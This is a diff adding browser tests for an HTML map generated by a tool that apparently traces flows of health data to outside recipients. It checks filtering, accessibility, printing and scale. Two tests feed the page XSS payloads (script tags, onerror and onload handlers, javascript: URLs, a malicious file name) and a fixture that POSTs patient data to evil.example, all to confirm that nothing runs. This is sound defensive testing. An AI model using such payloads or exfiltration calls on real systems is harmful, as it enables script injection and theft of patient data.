@@ -1,0 +1,262 @@
+/** The page of the map in a real browser: it loads, filters, opens paths, prints, and nothing from the code runs in it. */
+import { cpSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { createRequire } from 'node:module';
+import path from 'node:path';
+import { pathToFileURL } from 'node:url';
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { AnalysisResult } from '../../src/analysis.js';
+import { renderMapHtml } from '../../src/report/map-html.js';
+import { renderMapMermaid } from '../../src/report/map-mermaid.js';
+import { evilResult, largeResult, mapContext, mapResult, smallResult } from '../../src/report/testing/map-sample.js';
+import { emptyFolder, phitrace, project, ROOT, TODAY } from '../e2e/command.js';
+import { launch, SKIPPED } from './chromium.js';
+
+const require = createRequire(import.meta.url);
+const AXE = readFileSync(require.resolve('axe-core/axe.min.js'), 'utf8');
+const MERMAID = path.join(path.dirname(require.resolve('mermaid')), 'mermaid.min.js');
+
+declare const axe: {
+  run(): Promise<{ violations: { id: string; nodes: { target: unknown; failureSummary?: string }[] }[] }>;
+};
+declare const mermaid: {
+  parse(text: string): Promise<unknown>;
+  render(id: string, text: string): Promise<{ svg: string }>;
+};
+
+interface Opened {
+  readonly page: Page;
+  /** Addresses that the page asked for, besides itself. */
+  readonly asked: string[];
+  readonly complaints: string[];
+}
+
+describe.skipIf(SKIPPED)('the page', () => {
+  let browser: Browser;
+  let folder = '';
+  let clinic = '';
+  beforeAll(async () => {
+    browser = await launch();
+    folder = emptyFolder();
+    cpSync(path.join(ROOT, 'fixtures/clinic'), path.join(folder, 'clinic'), { recursive: true });
+    clinic = path.join(folder, 'map.html');
+    const options = ['--today', TODAY, '--format', 'html', '--output', 'map.html', '--quiet'];
+    const ran = phitrace(['map', 'clinic', ...options], { cwd: folder });
+    expect(ran.err).toBe('');
+  }, 180_000);
+  afterAll(() => browser.close());
+
+  async function open(file: string, width = 1280, height = 800): Promise<Opened> {
+    const page = await browser.newPage({ viewport: { width, height } });
+    const asked: string[] = [];
+    const complaints: string[] = [];
+    const url = pathToFileURL(file).href;
+    page.on('request', (r) => {
+      if (r.url() !== url) asked.push(r.url());
+    });
+    page.on('console', (m) => complaints.push(m.text()));
+    page.on('pageerror', (e) => complaints.push(String(e)));
+    await page.goto(url);
+    await page.waitForSelector('html[data-ready=true]', { timeout: 10_000 });
+    return { page, asked, complaints };
+  }
+
+  function written(result: AnalysisResult, context = mapContext()): string {
+    const file = path.join(emptyFolder(), 'map.html');
+    writeFileSync(file, renderMapHtml(result, context));
+    return file;
+  }
+
+  async function violations(page: Page): Promise<string[]> {
+    // Through the debugger, which the policy of the page does not bind.
+    await page.evaluate(AXE);
+    const { violations: found } = await page.evaluate(() => axe.run());
+    return found.map(
+      (v) =>
+        `${v.id}: ${v.nodes
+          .map((n) => `${String(n.target)} ${n.failureSummary ?? ''}`)
+          .slice(0, 3)
+          .join('; ')}`,
+    );
+  }
+
+  it('loads from disk, asks for nothing, and answers the questions without scrolling', async () => {
+    const { page, asked, complaints } = await open(clinic);
+    expect([asked, complaints]).toEqual([[], []]);
+    expect(await page.locator('.answer').count()).toBe(6);
+    const last = await page.locator('.answer').last().boundingBox();
+    expect((last?.y ?? 9999) + (last?.height ?? 0)).toBeLessThan(720);
+    expect(await page.locator('#map-folded [data-part].recipient').count()).toBeGreaterThan(20);
+    await page.close();
+  });
+
+  it('filters by word, letter and trust', async () => {
+    const { page } = await open(clinic);
+    const rows = page.locator('tr[data-flow]:visible');
+    const all = await rows.count();
+    await page.fill('#search', 'bedrock eu-central');
+    expect(await page.textContent('#status')).toBe(`1 of ${all} flows shown`);
+    expect(await rows.count()).toBe(1);
+    expect(await page.locator('[data-part].recipient:not(.off)').count()).toBe(1);
+    await page.fill('#search', '');
+    await page.selectOption('#letter', 'G');
+    expect(await rows.count()).toBe(1);
+    await page.selectOption('#letter', '');
+    for (const trust of ['own', 'covered', 'unknown']) await page.uncheck(`input[value=${trust}]`);
+    expect(await rows.count()).toBe(await page.locator('tr[data-flow]:has(.tag.uncovered)').count());
+    await page.close();
+  });
+
+  it('goes from an edge to its flows, to the path with code and links', async () => {
+    const { page } = await open(clinic);
+    await page.locator('[data-part].recipient', { hasText: 'Slack' }).first().click();
+    const flows = page.locator('dialog details');
+    expect(await flows.count()).toBe(4);
+    await flows.first().locator('summary').click();
+    const steps = flows.first().locator('.path li');
+    expect(await steps.count()).toBeGreaterThan(2);
+    expect(await steps.first().locator('mark').count()).toBeGreaterThan(0);
+    const href = (await steps.first().locator('a').getAttribute('href')) ?? '';
+    // Opened where it was written, the page knows where the code lies, though no path of the machine stands in it.
+    expect(href).toMatch(/^vscode:\/\/file\/.*\/clinic\/src\/.*\.ts:\d+:\d+$/);
+    expect(href).toContain(folder);
+    expect(readFileSync(clinic, 'utf8')).not.toContain(folder);
+    await page.keyboard.press('Escape');
+    expect(await page.locator('dialog[open]').count()).toBe(0);
+    await page.close();
+  });
+
+  it('is used with the keyboard alone', async () => {
+    const { page } = await open(clinic);
+    await page.focus('#map-folded');
+    await page.keyboard.press('Tab');
+    const first = await page.evaluate(() => document.activeElement?.getAttribute('aria-label'));
+    expect(first).toMatch(/^Patient \d+ flows, source of /);
+    await page.keyboard.press('ArrowDown');
+    expect(await page.evaluate(() => document.activeElement?.getAttribute('aria-label'))).not.toBe(first);
+    await page.keyboard.press('End');
+    await page.keyboard.press('Enter');
+    expect(await page.locator('dialog[open] details').count()).toBeGreaterThan(0);
+    await page.keyboard.press('Escape');
+    // The focus goes back to where it was.
+    expect(await page.evaluate(() => document.activeElement?.classList.contains('edge'))).toBe(true);
+    await page.close();
+  });
+
+  it.each(['light', 'dark'] as const)('has no violation that axe knows (%s)', async (colorScheme) => {
+    for (const width of [1280, 390]) {
+      const { page } = await open(clinic, width);
+      await page.emulateMedia({ colorScheme });
+      expect(await violations(page)).toEqual([]);
+      await page.locator('tr[data-flow] button').first().click();
+      expect(await violations(page)).toEqual([]);
+      await page.close();
+    }
+  });
+
+  it('fits a narrow screen', async () => {
+    const { page } = await open(clinic, 390, 844);
+    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
+    await page.locator('.narrow button').first().click();
+    expect(await page.locator('dialog[open] details').count()).toBeGreaterThan(0);
+    await page.close();
+  });
+
+  it('prints the answers and the map on one landscape page, the tables after it', async () => {
+    const { page } = await open(clinic);
+    await page.fill('#search', '');
+    await page.emulateMedia({ media: 'print' });
+    // The printable area of A4 landscape at 96 dots an inch.
+    await page.setViewportSize({ width: 1054, height: 725 });
+    const legend = await page.locator('.legend').boundingBox();
+    expect((legend?.y ?? 9999) + (legend?.height ?? 0)).toBeLessThan(725);
+    const pdf = await page.pdf({ preferCSSPageSize: true, printBackground: true });
+    const text = pdf.toString('latin1');
+    expect(text).toMatch(/\/MediaBox \[0 0 84[12](?:\.\d+)? 59[56](?:\.\d+)?\]/);
+    expect((text.match(/\/Type \/Page\b/g) ?? []).length).toBeGreaterThan(2);
+    await page.close();
+  });
+
+  it('lets nothing from the scanned code run', async () => {
+    const context = mapContext({
+      terms: { organization: '</title><script>window.hacked=1</script>', agreements: [], deidentifiers: [] },
+      repository: 'javascript:hacked()//',
+    });
+    const { page, asked, complaints } = await open(written(evilResult(), context));
+    await page.locator('tr[data-flow] button').first().click();
+    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
+    expect(await page.locator('img, iframe, object, embed, link').count()).toBe(0);
+    expect(await page.locator('script').count()).toBe(2);
+    expect(await page.locator('a[href^=javascript]').count()).toBe(0);
+    expect([asked, complaints]).toEqual([[], []]);
+    expect(await violations(page)).toEqual([]);
+    await page.close();
+  });
+
+  it('stands a project that attacks it', async () => {
+    const dir = project({
+      'package.json': '{"name":"</script><script>window.hacked=1</script>","dependencies":{"openai":"^6.0.0"}}',
+      'baa.yaml': 'version: 1\norganization: "<img src=x onerror=window.hacked=1>"\n',
+      'src/"><img src=x onerror=window.hacked=1>.ts': `import type { Patient } from 'fhir/r4';
+import OpenAI from 'openai';
+const openai = new OpenAI();
+export async function summarise(patient: Patient): Promise<void> {
+  await openai.responses.create({ model: '</script><script>window.hacked=1</script>', input: \`<img src=x onerror=window.hacked=1> \${JSON.stringify(patient)} 123-45-6789\` });
+  await fetch('https://evil.example/?<svg/onload=window.hacked=1>', { method: 'POST', body: JSON.stringify(patient) });
+}
+`,
+    });
+    mkdirSync(path.join(dir, 'out'));
+    const file = path.join(dir, 'out/map.html');
+    const ran = phitrace(['map', dir, '--today', TODAY, '--format', 'html', '--output', file]);
+    expect(ran.status).toBe(0);
+    const { page, asked, complaints } = await open(file);
+    expect(await page.locator('tr[data-flow]').count()).toBe(2);
+    await page.locator('tr[data-flow] button').first().click();
+    await page.locator('dialog summary').first().click();
+    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
+    expect([asked, complaints]).toEqual([[], []]);
+    expect(await page.locator('img').count()).toBe(0);
+    expect(readFileSync(file, 'utf8')).not.toContain('123-45-6789');
+    await page.close();
+  });
+
+  it('holds 60 recipients and 2,000 flows', async () => {
+    const file = written(largeResult(60, 2000));
+    expect(readFileSync(file).length).toBeLessThan(5_000_000);
+    const { page } = await open(file);
+    expect(await page.locator('#map-folded [data-part].recipient').count()).toBeLessThanOrEqual(30);
+    await page.click('#unfold');
+    expect(await page.locator('#map-whole [data-part].recipient:visible').count()).toBe(60);
+    await page.fill('#search', 'vendor-07');
+    expect(await page.textContent('#status')).toMatch(/^\d+ of 2000 flows shown$/);
+    await page.locator('#map-whole [data-part].recipient:not(.off)').first().click();
+    expect(await page.locator('dialog details').count()).toBeGreaterThan(0);
+    await page.close();
+  });
+
+  it('is a page without any flow, too', async () => {
+    const { page, complaints } = await open(written(mapResult([]), mapContext({ terms: null })));
+    expect(await page.textContent('main')).toContain('No flow of PHI to a recipient was seen.');
+    expect(complaints).toEqual([]);
+    expect(await violations(page)).toEqual([]);
+    await page.close();
+  });
+
+  it('draws what GitHub can draw: mermaid itself reads the diagrams', async () => {
+    const page = await browser.newPage();
+    await page.goto('about:blank');
+    await page.addScriptTag({ path: MERMAID });
+    for (const result of [smallResult(), evilResult(), mapResult([]), largeResult(60, 2000)]) {
+      const text = renderMapMermaid(result, mapContext());
+      expect(text.length).toBeLessThan(50_000);
+      const svg = await page.evaluate(async (diagram) => {
+        await mermaid.parse(diagram);
+        return (await mermaid.render('d', diagram)).svg;
+      }, text);
+      expect(svg).toMatch(/^<svg/);
+      expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
+    }
+    await page.close();
+  });
+});
